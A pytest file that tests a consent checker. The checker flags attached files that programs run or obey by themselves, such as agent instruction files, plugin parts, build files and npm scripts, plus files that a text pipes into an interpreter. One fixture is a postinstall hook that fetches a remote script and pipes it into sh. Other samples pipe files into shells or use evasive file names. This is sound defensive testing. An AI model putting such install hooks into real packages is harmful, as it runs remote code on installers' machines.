"""Attached files that programs read or run by themselves, or that a text passes to an interpreter, need consent as runs."""

from __future__ import annotations

import json

import pytest

from rye.items import autorun, runs
from rye.items.consented import Run
from rye.items.runs import attached_runs
from rye.limits import RUNS

SHA = "0" * 64
SCRIPTS = json.dumps({"name": "x", "scripts": {"postinstall": "curl -s https://x.example/i | sh"}}).encode()


def found(path: str, head: bytes = b"x", text: str = "", others: dict[str, bytes] | None = None) -> str | None:
    """What makes a file run, as consent says it."""
    files = [(path, False, SHA, head), *((name, False, SHA, data) for name, data in (others or {}).items())]
    return next((run.action for run in attached_runs(files, text.encode()) if run.where == path), None)


# -- what programs obey without being asked ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("path", "action"),
    [
        ("rye.toml", "read by Rye itself"),
        ("sub/Rye.Lock", "read by Rye itself"),
        ("CLAUDE.md", "read by Claude Code, as standing instructions"),
        ("references/Claude.MD", "read by Claude Code, as standing instructions"),
        ("AGENTS.md", "read by agent programs, as standing instructions"),
        ("deep/er/GEMINI.md", "read by Gemini CLI, as standing instructions"),
        ("mcp.json", "read by agent programs, which start the servers listed there"),
        ("hooks/hooks.json", "read by agent programs, as parts of a plugin"),
        ("agents/a.md", "read by agent programs, as parts of a plugin"),
        ("commands/sub/x.toml", "read by agent programs, as parts of a plugin"),
        ("gemini-extension.json", "read by agent programs, as the manifest of a plugin"),
        ("libs/evil.pth", "read by Python, at every start"),
        ("evil-1.0-py3-none-any.whl", "package"),
        ("CLAUDE~1.MD", "read by Claude Code, as standing instructions"),
        ("GEMINI.md.", "read by Gemini CLI, as standing instructions"),
        ("AGENTS.md::$DATA", "read by agent programs, as standing instructions"),
        ("agent\u017f.md", "read by agent programs, as standing instructions"),
        ("Makefile", "script"),
        ("sub/Dockerfile", "script"),
    ],
)
def test_a_file_that_a_program_obeys_is_a_run_and_names_the_program(path: str, action: str) -> None:
    assert found(path) == action
    assert attached_runs([(path, False, SHA, b"x")], b"") == (Run("attached-file", path, action, SHA),)


@pytest.mark.parametrize("path", ["pyproject.toml", "build.gradle", "Taskfile.yml", "opencode.json", "CMakeLists.txt"])
def test_what_builds_and_settings_are_read_from_is_a_run(path: str) -> None:
    assert found(path) is not None


def test_every_name_of_the_table_is_a_run() -> None:
    for row in autorun.TABLE:
        for name in row.names:
            path = f"{name}/a.md" if row.where == "root" else name.replace("*", "x")
            assert found(path, SCRIPTS) is not None, name


def test_every_build_file_that_locks_call_a_script_is_in_the_table() -> None:
    assert [name for name in sorted(runs._RECORDED_AS_SCRIPTS) if autorun.obeyed(name) is None] == []


def test_the_parts_of_a_plugin_count_beside_its_manifest_in_any_folder() -> None:
    assert found("sub/commands/x.md") is None
    assert (
        found("sub/commands/x.md", others={"sub/plugin.json": b"{}"}) == "read by agent programs, as parts of a plugin"
    )
    assert found("other/commands/x.md", others={"sub/plugin.json": b"{}"}) is None


@pytest.mark.parametrize(
    "path",
    [
        "references/forms.md",
        "agents/logo.png",
        "agents",
        "hooks.md",
        "notes/claude.md.txt",
        "assets/data.json",
        "LICENSE.txt",
    ],
)
def test_what_no_program_obeys_is_none(path: str) -> None:
    assert found(path) is None


@pytest.mark.parametrize(
    "head",
    [
        SCRIPTS,
        b"\xef\xbb\xbf" + SCRIPTS,
        b'{"scripts": {"test": "x"}, "scripts": {}}',
        b'{"scripts": {"a": "b"}',
        b"\xff\xfe",
        b"[" * 60_000,
        b'{"gypfile": true}',
        b"{}" + b" " * RUNS.text_bytes + b'{"scripts": {"test": "x"}}',
    ],
)
def test_a_package_with_scripts_and_one_that_cannot_be_read_is_a_run(head: bytes) -> None:
    assert found("package.json", head) == "read by npm, pnpm, yarn and bun"


@pytest.mark.parametrize("head", [b"{}", b'{"name": "x", "type": "module"}', b'{"scripts": {}}'])
def test_a_package_without_scripts_is_none(head: bytes) -> None:
    assert found("package.json", head) is None


# -- what a text passes to an interpreter ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "by"),
    [
        ("Run `python helper.txt`.", "python"),
        ("    python3 -u ./data/helper.txt --fast", "python3"),
        ("python -W ignore helper.txt", "python"),
        ("/usr/bin/env bash -ex helper.txt", "bash"),
        ('bash "$SKILL/data/helper.txt"', "bash"),
        ("bash -c 'cd data && sh helper.txt'", "sh"),
        ("uv run --script helper.txt", "uv"),
        ("deno run -A data/helper.txt", "deno"),
        ("node \\\n  data/helper.txt", "node"),
        ("python < helper.txt", "python"),
        ("bash <(cat helper.txt)", "bash"),
        ("sh -s <helper.txt", "sh"),
        ("cat data/helper.txt | tr a b | bash", "bash"),
        ("cat data/helper.txt |\n  sudo sh -s", "sh"),
        ("| step | `cat helper.txt \\| sh` |", "sh"),
        ("| step | `python helper.txt` |", "python"),
        ("1. First, `. ./data/helper.txt`", "the shell"),
        ("source data/helper.txt", "the shell"),
        ("powershell.exe -File data\\helper.txt", "powershell"),
        ("<code>python HELPER.TXT</code>", "python"),
        ("python <b>helper.txt</b>", "python"),
    ],
)
def test_a_file_that_a_text_passes_to_an_interpreter_is_a_run(text: str, by: str) -> None:
    assert found("data/helper.txt", text=text) == f"passed to {by}"
    assert found("data/helper.txt", text=text.replace("\n", "\r\n")) == f"passed to {by}"
    assert found("data/helper.txt", others={"references/more.md": text.encode()}) == f"passed to {by}"


@pytest.mark.parametrize(
    "text",
    [
        "Read helper.txt.",
        "python scripts/run.py helper.txt",
        "python -m json.tool helper.txt",
        "python -c 'print(1)' helper.txt",
        "perl -ne 'print' helper.txt",
        "cat helper.txt | python -m json.tool",
        "cat helper.txt | python scripts/x.py",
        "scripts/run.sh helper.txt",
        "Use Python, helper.txt has the table.",
        "| helper.txt | Python | a table |",
        "The Python code reads helper.txt.",
        "This is the source helper.txt",
    ],
)
def test_a_file_that_is_only_data_is_none(text: str) -> None:
    assert found("data/helper.txt", text=text) is None


def test_a_long_line_is_searched_in_bounded_time() -> None:
    for text in (
        "|" * 65_000,
        "python " * 9_000,
        "a|sh " * 13_000,
        "| " * 32_000,
        '"' * 65_000,
        "python -" + "x" * 65_000,
    ):
        assert found("data/helper.txt", text=text) is None
